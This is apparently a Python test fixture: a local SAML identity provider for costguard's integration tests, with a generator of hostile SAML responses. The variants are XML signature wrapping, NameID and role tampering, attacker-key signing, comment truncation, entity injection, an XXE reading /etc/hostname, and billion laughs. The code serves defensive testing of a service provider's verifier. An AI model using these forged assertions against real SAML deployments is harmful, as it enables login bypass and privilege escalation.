#!/usr/bin/env python3
"""A real SAML 2.0 identity provider for costguard's integration tests.

Built on pysaml2 (saml2.server.Server) with the system xmlsec1 binary for
XML signatures, plus a generator of hostile SAML responses.

Usage
-----
    tests/peers/.venv/bin/python tests/peers/saml_idp.py --config CONFIG.json

CONFIG.json::

    {"host": "127.0.0.2", "port": 0, "dir": "/tmp/some-dir",
     "sps": [{"entity_id": "http://127.0.0.1:PORT/auth/saml/metadata",
              "acs_url": "http://127.0.0.1:PORT/auth/saml/acs"}],
     "users": {"alice": {"password": "pw-alice", "name_id": "alice@acme.example",
                         "attributes": {"email": ["alice@acme.example"], "roles": ["analyst"]}}},
     "sign": "assertion",          # browser logins: "assertion" | "response" | "both"
     "assertion_ttl": 300}         # seconds

At startup it writes to "dir": idp-key.pem, idp-cert.pem, attacker-key.pem,
attacker-cert.pem (self-signed RSA-2048), one sp-N-metadata.xml per SP and
idp-metadata.xml. When listening it prints exactly one JSON line to stdout:

    {"port": P, "entity_id": "http://HOST:P/saml/metadata",
     "sso_url": "http://HOST:P/saml/sso", "cert_file": "/abs/idp-cert.pem",
     "attacker_cert_file": "/abs/attacker-cert.pem",
     "metadata_url": "http://HOST:P/saml/metadata"}

and serves until killed. Logs go to stderr.

HTTP endpoints
--------------
GET  /saml/metadata    IdP metadata (IDPSSODescriptor, signing cert, SSO HTTP-Redirect).
GET  /saml/sso         HTTP-Redirect AuthnRequest -> HTML login form (400 + reason if the
                       issuer is unknown or AssertionConsumerServiceURL is not the SP's).
POST /saml/login       form: username, password, req_id, sp, relay_state. Wrong password
                       -> form again with "invalid credentials"; right -> auto-submitting
                       HTTP-POST form to the ACS carrying SAMLResponse (+ RelayState).
POST /__test/response  JSON -> {"saml_response", "xml", "response_id", "assertion_id",
                       "evil_assertion_id"?}; see build_test_response() for the fields
                       and ATTACKS for the hostile variants.
GET  /__test/stats     {"sso_requests", "logins", "last_authn_request"}.

Signatures: RSA-SHA256, SHA-256 digests, exclusive c14n, enveloped, placed right
after the signed element's Issuer, signing cert in KeyInfo/X509Data.

Hostile variants ("attack"), applied after a normal signature was made. All of them
must be rejected by the SP. What `xmlsec1 --verify` with the IdP cert says:
  tamper_name_id, tamper_attribute        FAIL (digest mismatch): plain tampering
  key=attacker / wrong_cert_in_keyinfo    FAIL with the IdP cert, OK with the attacker cert
  xsw_before, xsw_after, xsw_wrap,
  xsw_extensions, xsw_response            OK: the signed element still verifies
  xsw_object                              FAIL for the first Signature (the copy: its enveloped
                                          transform removes the referenced assertion that sits
                                          inside it); OK with --node-id <assertion_id>
  duplicate_id                            refused: "duplicate ID attribute"
  comment_in_name_id                      OK (exc-c14n drops comments)
  doctype_entity, external_entity,
  billion_laughs                          refused by xmlsec1 (entity reference nodes); after
                                          entity expansion OK: the signed text IS the expansion,
                                          so only refusing the DOCTYPE stops them
  oversize                                OK (padding is an unsigned comment)
With sign="both" (or "response"), the assertion-moving variants also break the
Response signature; xsw_response defaults to sign="response".
"""

import argparse
import base64
import copy
import datetime
import html
import json
import os
import sys
import threading
import traceback
import urllib.parse
import uuid
import warnings
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

warnings.filterwarnings("ignore", module=r"saml2\..*")  # CryptographyDeprecationWarning noise

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT
from saml2.attribute_converter import AttributeConverterNOOP
from saml2.config import IdPConfig
from saml2.metadata import entity_descriptor
from saml2.saml import AUTHN_PASSWORD_PROTECTED, NAME_FORMAT_BASIC, NAMEID_FORMAT_EMAILADDRESS, NameID
from saml2.server import Server
from saml2.sigver import pre_signature_part
from saml2.xmldsig import DIGEST_SHA256, SIG_RSA_SHA256

XMLSEC1 = "/usr/bin/xmlsec1"
NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
RESPONSE_NODE = "urn:oasis:names:tc:SAML:2.0:protocol:Response"
ASSERTION_NODE = "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"
SIGN_MODES = ("assertion", "response", "both", "none")
DEFAULT_VICTIM = "victim@acme.example"


def log(msg):
    print(f"saml_idp: {msg}", file=sys.stderr, flush=True)


def q(tag):
    """'samlp:Response' -> '{urn:...:protocol}Response'."""
    prefix, local = tag.split(":")
    return f"{{{NS[prefix]}}}{local}"


def instant(offset_seconds=0):
    t = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=offset_seconds)
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id():
    return "_" + uuid.uuid4().hex


# --------------------------------------------------------------------------- keys


def make_key_pair(directory, name, common_name):
    """Self-signed RSA-2048 key + cert as PEM files; returns (key_file, cert_file)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=3650))
        .sign(key, hashes.SHA256())
    )
    key_file = os.path.join(directory, f"{name}-key.pem")
    cert_file = os.path.join(directory, f"{name}-cert.pem")
    with open(key_file, "wb") as f:
        f.write(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.TraditionalOpenSSL,
                serialization.NoEncryption(),
            )
        )
    with open(cert_file, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    return key_file, cert_file


def cert_body(cert_file):
    """The base64 body of a PEM certificate (what goes into ds:X509Certificate)."""
    with open(cert_file) as f:
        return "".join(line.strip() for line in f if line.strip() and not line.startswith("-----"))


def sp_metadata_xml(entity_id, acs_url):
    e, a = html.escape(entity_id, quote=True), html.escape(acs_url, quote=True)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="{e}">
  <md:SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"
      AuthnRequestsSigned="false" WantAssertionsSigned="true">
    <md:NameIDFormat>{NAMEID_FORMAT_EMAILADDRESS}</md:NameIDFormat>
    <md:AssertionConsumerService Binding="{BINDING_HTTP_POST}" Location="{a}" index="0" isDefault="true"/>
  </md:SPSSODescriptor>
</md:EntityDescriptor>
"""


# --------------------------------------------------------------------------- the IdP


class BadRequest(Exception):
    """Reported to the client as 400 with this text."""


class IdP:
    def __init__(self, cfg, host, port):
        self.cfg = cfg
        self.dir = os.path.abspath(cfg["dir"])
        os.makedirs(self.dir, exist_ok=True)
        self.base = f"http://{host}:{port}"
        self.entity_id = f"{self.base}/saml/metadata"
        self.sso_url = f"{self.base}/saml/sso"
        self.sign_default = cfg.get("sign", "assertion")
        if self.sign_default not in ("assertion", "response", "both"):
            raise SystemExit(f"config: sign must be assertion|response|both, not {self.sign_default!r}")
        self.ttl = int(cfg.get("assertion_ttl", 300))
        self.users = cfg.get("users", {})
        self.sps = cfg.get("sps", [])
        if not self.sps:
            raise SystemExit("config: at least one SP is needed in 'sps'")

        self.key_file, self.cert_file = make_key_pair(self.dir, "idp", "costguard-test-idp")
        self.attacker_key_file, self.attacker_cert_file = make_key_pair(self.dir, "attacker", "costguard-test-attacker")

        md_files = []
        for i, sp in enumerate(self.sps):
            path = os.path.join(self.dir, f"sp-{i}-metadata.xml")
            with open(path, "w") as f:
                f.write(sp_metadata_xml(sp["entity_id"], sp["acs_url"]))
            md_files.append(path)

        conf = IdPConfig()
        conf.load(
            {
                "entityid": self.entity_id,
                "xmlsec_binary": XMLSEC1,
                "crypto_backend": "xmlsec1",
                "key_file": self.key_file,
                "cert_file": self.cert_file,
                "metadata": {"local": md_files},
                "signing_algorithm": SIG_RSA_SHA256,
                "digest_algorithm": DIGEST_SHA256,
                "allow_unknown_attributes": True,
                "service": {
                    "idp": {
                        "name": "costguard test IdP",
                        "endpoints": {"single_sign_on_service": [(self.sso_url, BINDING_HTTP_REDIRECT)]},
                        "name_id_format": [NAMEID_FORMAT_EMAILADDRESS],
                        "want_authn_requests_signed": False,
                        "policy": {
                            "default": {
                                "lifetime": {"seconds": self.ttl},
                                "name_form": NAME_FORMAT_BASIC,
                                "attribute_restrictions": None,
                                "fail_on_missing_requested": False,
                            }
                        },
                    }
                },
            }
        )
        # Emit attribute names exactly as configured, NameFormat basic.
        conf.attribute_converters = [AttributeConverterNOOP(NAME_FORMAT_BASIC)]
        self.server = Server(config=conf)
        self.metadata = str(entity_descriptor(conf))
        with open(os.path.join(self.dir, "idp-metadata.xml"), "w") as f:
            f.write(self.metadata)

        self.lock = threading.Lock()
        self.pending = {}  # AuthnRequest ID -> record
        self.stats = {"sso_requests": 0, "logins": 0, "last_authn_request": None}

    def sp_by_entity(self, entity_id):
        for sp in self.sps:
            if sp["entity_id"] == entity_id:
                return sp
        return None

    # ---- SSO (HTTP-Redirect) -------------------------------------------------

    def handle_sso(self, saml_request, relay_state):
        if not saml_request:
            raise BadRequest("missing SAMLRequest")
        try:
            req = self.server.parse_authn_request(saml_request, BINDING_HTTP_REDIRECT)
        except Exception as exc:  # pysaml2 raises many kinds
            raise BadRequest(f"cannot parse AuthnRequest: {type(exc).__name__}: {exc}")
        if req is None:
            raise BadRequest("cannot parse AuthnRequest")
        msg = req.message
        issuer = msg.issuer.text.strip() if msg.issuer is not None and msg.issuer.text else None
        sp = self.sp_by_entity(issuer)
        if sp is None:
            raise BadRequest(f"unknown SP issuer: {issuer!r}")
        acs = msg.assertion_consumer_service_url
        if acs is not None and acs != sp["acs_url"]:
            raise BadRequest(f"AssertionConsumerServiceURL {acs!r} is not the SP's {sp['acs_url']!r}")
        record = {
            "id": msg.id,
            "issuer": issuer,
            "acs_url": acs,
            "relay_state": relay_state,
            "destination": msg.destination,
            "name_id_policy_format": msg.name_id_policy.format if msg.name_id_policy is not None else None,
        }
        with self.lock:
            self.stats["sso_requests"] += 1
            self.stats["last_authn_request"] = record
            self.pending[msg.id] = record
        log(f"AuthnRequest {msg.id} from {issuer}")
        return login_form(msg.id, issuer, relay_state)

    # ---- login form ------------------------------------------------------------

    def handle_login(self, form):
        username = form.get("username", "")
        password = form.get("password", "")
        req_id = form.get("req_id", "")
        sp_id = form.get("sp", "")
        relay_state = form.get("relay_state") or None
        with self.lock:
            record = self.pending.get(req_id)
        if record is None or record["issuer"] != sp_id:
            raise BadRequest("unknown or expired login request")
        user = self.users.get(username)
        if user is None or user.get("password") != password:
            log(f"invalid credentials for {username!r}")
            return login_form(req_id, sp_id, relay_state, error="invalid credentials")
        sp = self.sp_by_entity(sp_id)
        mode = self.sign_default
        with self.lock:
            resp = self.server.create_authn_response(
                identity=user.get("attributes", {}),
                in_response_to=req_id,
                destination=sp["acs_url"],
                sp_entity_id=sp_id,
                name_id=NameID(format=NAMEID_FORMAT_EMAILADDRESS, text=user["name_id"]),
                authn={"class_ref": AUTHN_PASSWORD_PROTECTED, "authn_auth": self.entity_id},
                sign_response=mode in ("response", "both"),
                sign_assertion=mode in ("assertion", "both"),
                sign_alg=SIG_RSA_SHA256,
                digest_alg=DIGEST_SHA256,
            )
            self.stats["logins"] += 1
            self.pending.pop(req_id, None)
        xml = str(resp)
        log(f"login {username!r} -> {sp['acs_url']} (signed: {mode})")
        return post_form(sp["acs_url"], base64.b64encode(xml.encode()).decode(), relay_state)

    # ---- test responses ------------------------------------------------------

    def base_response(self, user, sp, spec):
        """An unsigned pysaml2 Response as an lxml tree, with the spec's overrides applied."""
        in_response_to = spec.get("in_response_to")
        name_id = spec.get("name_id", user["name_id"])
        attributes = spec.get("attributes", user.get("attributes", {}))
        with self.lock:
            resp = self.server.create_authn_response(
                identity=attributes,
                in_response_to=in_response_to,
                destination=sp["acs_url"],
                sp_entity_id=sp["entity_id"],
                name_id=NameID(format=NAMEID_FORMAT_EMAILADDRESS, text=name_id),
                authn={"class_ref": AUTHN_PASSWORD_PROTECTED, "authn_auth": self.entity_id},
                sign_response=False,
                sign_assertion=False,
            )
        root = etree.fromstring(str(resp).encode(), parser=safe_parser())
        assertion = root.find(q("saml:Assertion"))

        if in_response_to is None:
            for el in [root] + root.findall(".//" + q("saml:SubjectConfirmationData")):
                el.attrib.pop("InResponseTo", None)
        issuer = spec.get("issuer")
        if issuer is not None:
            for el in (root.find(q("saml:Issuer")), assertion.find(q("saml:Issuer"))):
                el.text = issuer
        if spec.get("destination") is not None:
            root.set("Destination", spec["destination"])
        if spec.get("recipient") is not None:
            for el in assertion.iter(q("saml:SubjectConfirmationData")):
                el.set("Recipient", spec["recipient"])
        if spec.get("audience") is not None:
            for el in assertion.iter(q("saml:Audience")):
                el.text = spec["audience"]
        self.apply_times(root, assertion, spec)
        return root

    def apply_times(self, root, assertion, spec):
        nb = spec.get("not_before")
        noa = spec.get("not_on_or_after")
        if noa is None:
            noa = (nb if nb is not None and nb > 0 else 0) + self.ttl
        if nb is None:
            nb = min(0, noa - self.ttl)
        for el in assertion.iter(q("saml:Conditions")):
            el.set("NotBefore", instant(nb))
            el.set("NotOnOrAfter", instant(noa))
        for el in assertion.iter(q("saml:SubjectConfirmationData")):
            el.set("NotOnOrAfter", instant(noa))
        if spec.get("not_before") is not None or nb < 0:
            # Keep IssueInstant/AuthnInstant consistent with the validity window.
            root.set("IssueInstant", instant(nb))
            assertion.set("IssueInstant", instant(nb))
            for el in assertion.iter(q("saml:AuthnStatement")):
                el.set("AuthnInstant", instant(nb))

    def sign(self, root, mode, key):
        """Sign assertion and/or response (assertion first); returns a new tree."""
        if mode == "none":
            return root
        key_file, cert_file = (
            (self.attacker_key_file, self.attacker_cert_file) if key == "attacker" else (self.key_file, self.cert_file)
        )
        targets = []
        if mode in ("assertion", "both"):
            targets.append((ASSERTION_NODE, lambda r: r.find(q("saml:Assertion"))))
        if mode in ("response", "both"):
            targets.append((RESPONSE_NODE, lambda r: r))
        for node_name, find in targets:
            el = find(root)
            el_id = el.get("ID")
            template = pre_signature_part(
                el_id, cert_body(cert_file), 1, digest_alg=DIGEST_SHA256, sign_alg=SIG_RSA_SHA256
            )
            sig = etree.fromstring(str(template).encode(), parser=safe_parser())
            sig.attrib.pop("Id", None)
            el.find(q("saml:Issuer")).addnext(sig)
            signed = self.server.sec.sign_statement(
                to_string(root), node_name, key_file=key_file, node_id=el_id
            )
            root = etree.fromstring(signed.encode(), parser=safe_parser())
        return root

    def build_test_response(self, spec):
        """POST /__test/response.

        Fields (all optional except user): user, sp, in_response_to, audience, recipient,
        destination, issuer, name_id, attributes, not_before, not_on_or_after (seconds
        relative to now), sign (assertion|response|both|none), key (idp|attacker),
        attack (see ATTACKS), value, attribute, split_at, size.
        """
        user = self.users.get(spec.get("user"))
        if user is None:
            raise BadRequest(f"unknown user: {spec.get('user')!r}")
        sp_id = spec.get("sp", self.sps[0]["entity_id"])
        sp = self.sp_by_entity(sp_id)
        if sp is None:
            raise BadRequest(f"unknown sp: {sp_id!r}")
        attack = spec.get("attack") or "none"
        if attack not in ATTACKS:
            raise BadRequest(f"unknown attack: {attack!r}; known: {sorted(ATTACKS)}")
        default_sign = "response" if attack == "xsw_response" else "assertion"
        mode = spec.get("sign") or default_sign
        if mode not in SIGN_MODES:
            raise BadRequest(f"unknown sign mode: {mode!r}")
        key = spec.get("key") or "idp"
        if key not in ("idp", "attacker"):
            raise BadRequest(f"unknown key: {key!r}")
        if attack == "wrong_cert_in_keyinfo":
            key = "attacker"

        prepare, mutate = ATTACKS[attack]
        spec = dict(spec)
        if prepare:
            prepare(self, user, spec)
        root = self.base_response(user, sp, spec)
        response_id = root.get("ID")
        assertion_id = root.find(q("saml:Assertion")).get("ID")
        root = self.sign(root, mode, key)
        ctx = {"evil_assertion_id": None}
        xml = mutate(root, spec, ctx) if mutate else to_string(root)
        out = {
            "saml_response": base64.b64encode(xml.encode()).decode(),
            "xml": xml,
            "response_id": response_id,
            "assertion_id": assertion_id,
        }
        if ctx.get("evil_assertion_id"):
            out["evil_assertion_id"] = ctx["evil_assertion_id"]
        if ctx.get("outer_response_id"):
            out["outer_response_id"] = ctx["outer_response_id"]
        with self.lock:
            self.stats.setdefault("test_responses", 0)
            self.stats["test_responses"] += 1
        log(f"test response user={spec.get('user')} sign={mode} key={key} attack={attack}")
        return out


def safe_parser():
    return etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False)


def to_string(root):
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8").decode()


# --------------------------------------------------------------------------- attack variants
# Each mutate(root, spec, ctx) gets the signed tree and returns the final XML string.
# A prepare(idp, user, spec) hook may change what is signed (e.g. the NameID text).


def signed_assertion(root):
    return root.find(q("saml:Assertion"))


def evil_copy(assertion, spec, ctx, same_id=False):
    """An unsigned copy of the assertion with NameID = value (default victim@acme.example)."""
    evil = copy.deepcopy(assertion)
    evil.tail = None
    for sig in evil.findall(q("ds:Signature")):
        evil.remove(sig)
    if not same_id:
        evil.set("ID", new_id())
    evil.find(f"{q('saml:Subject')}/{q('saml:NameID')}").text = spec.get("value") or DEFAULT_VICTIM
    ctx["evil_assertion_id"] = evil.get("ID")
    return evil


def detach(el):
    """Remove el from its parent, keeping the surrounding whitespace tidy."""
    parent = el.getparent()
    prev = el.getprevious()
    if el.tail:
        if prev is not None:
            prev.tail = (prev.tail or "") + el.tail
        else:
            parent.text = (parent.text or "") + el.tail
    el.tail = None
    parent.remove(el)
    return el


def attack_tamper_name_id(root, spec, ctx):
    signed_assertion(root).find(f".//{q('saml:NameID')}").text = spec.get("value") or DEFAULT_VICTIM
    return to_string(root)


def attack_tamper_attribute(root, spec, ctx):
    name = spec.get("attribute") or "roles"
    default = {"roles": "system_admin", "tenant_id": "org-bbbbbbbb"}.get(name, "tampered")
    value = spec.get("value") or default
    for attr in signed_assertion(root).iter(q("saml:Attribute")):
        if attr.get("Name") == name:
            attr.find(q("saml:AttributeValue")).text = value
            return to_string(root)
    raise BadRequest(f"tamper_attribute: no attribute {name!r} in the assertion")


def attack_xsw_before(root, spec, ctx):
    a = signed_assertion(root)
    a.addprevious(evil_copy(a, spec, ctx))
    return to_string(root)


def attack_xsw_after(root, spec, ctx):
    a = signed_assertion(root)
    a.addnext(evil_copy(a, spec, ctx))
    return to_string(root)


def attack_xsw_wrap(root, spec, ctx):
    """Evil assertion in the signed one's place; the signed one nested in the evil Subject."""
    a = signed_assertion(root)
    evil = evil_copy(a, spec, ctx)
    a.addprevious(evil)
    detach(a)
    evil.find(q("saml:Subject")).append(a)
    return to_string(root)


def attack_xsw_extensions(root, spec, ctx):
    """Signed assertion moved into samlp:Extensions (right after Issuer/Signature); evil takes its place."""
    a = signed_assertion(root)
    evil = evil_copy(a, spec, ctx)
    a.addprevious(evil)
    detach(a)
    ext = etree.Element(q("samlp:Extensions"))
    ext.append(a)
    anchor = root.find(q("ds:Signature"))
    if anchor is None:
        anchor = root.find(q("saml:Issuer"))
    anchor.addnext(ext)
    return to_string(root)


def attack_xsw_object(root, spec, ctx):
    """Evil assertion carries a copy of the original ds:Signature with the signed assertion in ds:Object."""
    a = signed_assertion(root)
    orig_sig = a.find(q("ds:Signature"))
    if orig_sig is None:
        raise BadRequest("xsw_object needs a signed assertion (sign=assertion or both)")
    evil = evil_copy(a, spec, ctx)
    sig_copy = copy.deepcopy(orig_sig)
    sig_copy.tail = None
    evil.find(q("saml:Issuer")).addnext(sig_copy)
    a.addprevious(evil)
    detach(a)
    obj = etree.SubElement(sig_copy, q("ds:Object"))
    obj.append(a)
    return to_string(root)


def attack_duplicate_id(root, spec, ctx):
    a = signed_assertion(root)
    a.addprevious(evil_copy(a, spec, ctx, same_id=True))
    return to_string(root)


def attack_xsw_response(root, spec, ctx):
    """A new unsigned outer Response whose Extensions hold the signed Response; its own assertion is evil."""
    inner_assertion = signed_assertion(root)
    outer = etree.Element(root.tag, nsmap=root.nsmap)
    for k, v in root.attrib.items():
        outer.set(k, v)
    outer.set("ID", new_id())
    ctx["outer_response_id"] = outer.get("ID")
    outer.text = "\n"
    issuer = copy.deepcopy(root.find(q("saml:Issuer")))
    issuer.tail = "\n"
    outer.append(issuer)
    ext = etree.SubElement(outer, q("samlp:Extensions"))
    ext.tail = "\n"
    ext.append(root)
    status = copy.deepcopy(root.find(q("samlp:Status")))
    status.tail = "\n"
    outer.append(status)
    evil = evil_copy(inner_assertion, spec, ctx)
    outer.append(evil)
    return to_string(outer)


def split_point(spec):
    value = spec.get("value") or DEFAULT_VICTIM + ".evil.test"
    if spec.get("split_at") is not None:
        return value, int(spec["split_at"])
    labels = value.split(".")
    if len(labels) > 2:
        return value, len(".".join(labels[:-2]))
    return value, len(value)


def prepare_comment_in_name_id(idp, user, spec):
    spec["name_id"], _ = split_point(spec)


def attack_comment_in_name_id(root, spec, ctx):
    value, at = split_point(spec)
    name_id = signed_assertion(root).find(f".//{q('saml:NameID')}")
    name_id.text = value[:at]
    comment = etree.Comment("")
    comment.tail = value[at:]
    name_id.append(comment)
    return to_string(root)


def with_doctype(root, doctype_body, placeholder, replacement):
    xml = etree.tostring(root, encoding="UTF-8").decode()
    assert placeholder in xml
    xml = xml.replace(placeholder, replacement, 1)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {root_qname(root)} [\n{doctype_body}\n]>\n{xml}'


def root_qname(root):
    prefix = root.prefix
    return f"{prefix}:{etree.QName(root).localname}" if prefix else etree.QName(root).localname


def prepare_doctype_entity(idp, user, spec):
    # The NameID is signed as the entity's expansion, so an entity-expanding
    # verifier accepts the signature: only refusing the DOCTYPE stops it.
    spec["name_id"] = spec.get("value") or DEFAULT_VICTIM


def attack_doctype_entity(root, spec, ctx):
    value = spec.get("value") or DEFAULT_VICTIM
    signed_assertion(root).find(f".//{q('saml:NameID')}").text = "ENTITYPLACEHOLDER"
    entity = f'<!ENTITY e "{html.escape(value, quote=True)}">'
    return with_doctype(root, entity, "ENTITYPLACEHOLDER", "&e;")


EXTERNAL_FILE = "/etc/hostname"


def first_value_of(root_or_attrs, name):
    for attr in root_or_attrs.iter(q("saml:Attribute")):
        if attr.get("Name") == name:
            return attr.find(q("saml:AttributeValue"))
    raise BadRequest(f"no attribute {name!r} in the assertion")


def set_first_value(idp, user, spec, value):
    """Make the first value of attribute spec["attribute"] (default "name") `value` before signing."""
    name = spec.get("attribute") or "name"
    attrs = {k: list(v) for k, v in spec.get("attributes", user.get("attributes", {})).items()}
    attrs[name] = [value] + attrs.get(name, [])[1:]
    spec["attributes"] = attrs


def prepare_external_entity(idp, user, spec):
    # Signed as the file's content, so an XXE-resolving verifier accepts it.
    try:
        with open(EXTERNAL_FILE) as f:
            content = f.read()
    except OSError:
        content = ""
    set_first_value(idp, user, spec, content)


def attack_external_entity(root, spec, ctx):
    first_value_of(signed_assertion(root), spec.get("attribute") or "name").text = "XXEPLACEHOLDER"
    return with_doctype(root, f'<!ENTITY xxe SYSTEM "file://{EXTERNAL_FILE}">', "XXEPLACEHOLDER", "&xxe;")


LOL_LEVELS = 4  # 10^4 "lol"s = 30 kB expanded: small on purpose, the SP must refuse any DOCTYPE


def prepare_billion_laughs(idp, user, spec):
    # Signed as the full expansion, so an entity-expanding verifier accepts it.
    set_first_value(idp, user, spec, "lol" * 10**LOL_LEVELS)


def attack_billion_laughs(root, spec, ctx):
    first_value_of(signed_assertion(root), spec.get("attribute") or "name").text = "LOLPLACEHOLDER"
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, LOL_LEVELS + 1)
    ]
    return with_doctype(root, "\n".join(entities), "LOLPLACEHOLDER", f"&lol{LOL_LEVELS};")


def attack_oversize(root, spec, ctx):
    size = int(spec.get("size") or 2 * 1024 * 1024)
    base = len(to_string(root).encode())
    pad = max(0, size - base - len("<!---->"))
    root.append(etree.Comment("x" * pad))
    return to_string(root)


ATTACKS = {
    "none": (None, None),
    "tamper_name_id": (None, attack_tamper_name_id),
    "tamper_attribute": (None, attack_tamper_attribute),
    "xsw_before": (None, attack_xsw_before),
    "xsw_after": (None, attack_xsw_after),
    "xsw_wrap": (None, attack_xsw_wrap),
    "xsw_extensions": (None, attack_xsw_extensions),
    "xsw_object": (None, attack_xsw_object),
    "duplicate_id": (None, attack_duplicate_id),
    "xsw_response": (None, attack_xsw_response),
    "comment_in_name_id": (prepare_comment_in_name_id, attack_comment_in_name_id),
    "doctype_entity": (prepare_doctype_entity, attack_doctype_entity),
    "external_entity": (prepare_external_entity, attack_external_entity),
    "billion_laughs": (prepare_billion_laughs, attack_billion_laughs),
    "oversize": (None, attack_oversize),
    "wrong_cert_in_keyinfo": (None, None),  # key=attacker, handled in build_test_response
}


# --------------------------------------------------------------------------- HTML


def login_form(req_id, sp, relay_state, error=None):
    e = lambda s: html.escape(s or "", quote=True)  # noqa: E731
    err = f'<p id="error" style="color:#b00">{e(error)}</p>\n' if error else ""
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Test IdP sign-in</title></head>
<body>
<h1>Test IdP sign-in</h1>
{err}<form method="post" action="/saml/login">
  <label for="username">Username</label> <input type="text" name="username" id="username" autofocus>
  <label for="password">Password</label> <input type="password" name="password" id="password">
  <input type="hidden" name="req_id" value="{e(req_id)}">
  <input type="hidden" name="sp" value="{e(sp)}">
  <input type="hidden" name="relay_state" value="{e(relay_state)}">
  <button type="submit" id="login">Sign in</button>
</form>
</body></html>
"""


def post_form(acs_url, saml_response, relay_state):
    e = lambda s: html.escape(s or "", quote=True)  # noqa: E731
    relay = f'<input type="hidden" name="RelayState" value="{e(relay_state)}">\n' if relay_state is not None else ""
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Signing in…</title></head>
<body>
<form method="post" action="{e(acs_url)}">
<input type="hidden" name="SAMLResponse" value="{e(saml_response)}">
{relay}<noscript><button type="submit">Continue</button></noscript>
</form>
<script>document.forms[0].submit()</script>
</body></html>
"""


# --------------------------------------------------------------------------- HTTP


class Handler(BaseHTTPRequestHandler):
    idp = None  # set in main()
    server_version = "costguard-test-saml-idp"
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        log(f"{self.address_string()} {fmt % args}")

    def send(self, status, body, content_type):
        data = body.encode() if isinstance(body, str) else body
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(data)

    def send_json(self, status, obj):
        self.send(status, json.dumps(obj), "application/json")

    def read_body(self):
        n = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(n) if n else b""

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        params = dict(urllib.parse.parse_qsl(url.query, keep_blank_values=True))
        try:
            if url.path == "/saml/metadata":
                self.send(200, self.idp.metadata, "application/samlmetadata+xml")
            elif url.path == "/saml/sso":
                page = self.idp.handle_sso(params.get("SAMLRequest"), params.get("RelayState"))
                self.send(200, page, "text/html; charset=utf-8")
            elif url.path == "/__test/stats":
                with self.idp.lock:
                    self.send_json(200, self.idp.stats)
            else:
                self.send(404, "not found\n", "text/plain")
        except BadRequest as exc:
            self.send(400, f"{exc}\n", "text/plain; charset=utf-8")
        except Exception:
            log(traceback.format_exc())
            self.send(500, "internal error\n", "text/plain")

    def do_POST(self):
        url = urllib.parse.urlsplit(self.path)
        try:
            body = self.read_body()
            if url.path == "/saml/login":
                form = dict(urllib.parse.parse_qsl(body.decode(), keep_blank_values=True))
                self.send(200, self.idp.handle_login(form), "text/html; charset=utf-8")
            elif url.path == "/__test/response":
                try:
                    spec = json.loads(body or b"{}")
                except ValueError as exc:
                    raise BadRequest(f"invalid JSON: {exc}")
                if not isinstance(spec, dict):
                    raise BadRequest("JSON body must be an object")
                self.send_json(200, self.idp.build_test_response(spec))
            else:
                self.send(404, "not found\n", "text/plain")
        except BadRequest as exc:
            if url.path.startswith("/__test/"):
                self.send_json(400, {"error": str(exc)})
            else:
                self.send(400, f"{exc}\n", "text/plain; charset=utf-8")
        except Exception as exc:
            log(traceback.format_exc())
            if url.path.startswith("/__test/"):
                self.send_json(500, {"error": f"{type(exc).__name__}: {exc}"})
            else:
                self.send(500, "internal error\n", "text/plain")


class HTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--config", required=True)
    args = ap.parse_args()
    with open(args.config) as f:
        cfg = json.load(f)
    if not os.access(XMLSEC1, os.X_OK):
        raise SystemExit(f"{XMLSEC1} is missing: run tests/peers/install.sh")
    host = cfg.get("host", "127.0.0.2")
    httpd = HTTPServer((host, int(cfg.get("port", 0))), Handler)
    port = httpd.server_address[1]
    idp = IdP(cfg, host, port)
    Handler.idp = idp
    print(
        json.dumps(
            {
                "port": port,
                "entity_id": idp.entity_id,
                "sso_url": idp.sso_url,
                "cert_file": idp.cert_file,
                "attacker_cert_file": idp.attacker_cert_file,
                "metadata_url": idp.entity_id,
            }
        ),
        flush=True,
    )
    log(f"listening on {idp.base} (entity id {idp.entity_id})")
    try:
        httpd.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
